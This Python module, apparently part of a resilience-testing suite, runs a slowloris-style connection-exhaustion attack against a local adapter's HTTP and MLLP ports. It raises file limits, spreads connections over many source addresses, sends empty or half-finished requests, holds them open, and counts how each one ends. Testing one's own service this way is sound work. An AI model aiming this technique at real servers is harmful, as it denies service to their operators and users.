"""Connections without a token that ask nothing, not all of it, or what is refused."""

from __future__ import annotations

import resource
import socket
import time
from collections import Counter, deque
from contextlib import suppress

from hostile.attacks.signals import Stop
from hostile.size import Size
from hostile.target import Target, addresses

KEPT = 8.0  # seconds, then another takes its place
_DOOR_EVERY = 10  # so many go to HTTP for one that goes to MLLP
_WORDS = (
    b"",
    b"POST /inbox HTTP/1.1\r\nHost: adapter\r\nContent-Le",
    b"POST /inbox HTTP/1.1\r\nHost: adapter\r\nContent-Length: 2\r\n\r\n{}",
)


def run(target: Target, size: Size, stop: Stop) -> Counter[str]:
    """Open connections at a steady rate; count how each ended."""
    _raise_limit()
    sources, counts = addresses(size.addresses), Counter[str]()
    kept: deque[tuple[float, socket.socket]] = deque()
    begun, pace = time.monotonic(), size.attacked * 0.95 / size.connections
    for number in range(size.connections):
        stop.wait(max(0.0, begun + number * pace - time.monotonic()))
        _drop(kept, time.monotonic() - KEPT, counts)
        wire = _opened(_port(target, number), sources[number % len(sources)], counts)
        if wire is not None:
            with suppress(OSError):
                wire.send(_WORDS[number // len(sources) % len(_WORDS)])
            kept.append((time.monotonic(), wire))
    _drop(kept, time.monotonic(), counts)
    return counts


def _raise_limit() -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def _port(target: Target, number: int) -> int:
    if number % _DOOR_EVERY:
        return target.web
    return target.doors[number // _DOOR_EVERY % len(target.doors)]


def _opened(port: int, source: str, counts: Counter[str]) -> socket.socket | None:
    wire = socket.socket()
    try:
        wire.bind((source, 0))
        wire.settimeout(0.5)
        wire.connect(("127.0.0.1", port))
    except OSError:
        wire.close()
        counts["refused"] += 1
        return None
    counts["opened"] += 1
    wire.settimeout(0)
    return wire


def _drop(kept: deque[tuple[float, socket.socket]], before: float, counts: Counter[str]) -> None:
    """Close what was opened before a time."""
    while kept and kept[0][0] <= before:
        _, wire = kept.popleft()
        counts["closed by the adapter" if _is_closed(wire) else "kept"] += 1
        wire.close()


def _is_closed(wire: socket.socket) -> bool:
    try:
        while wire.recv(65536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True
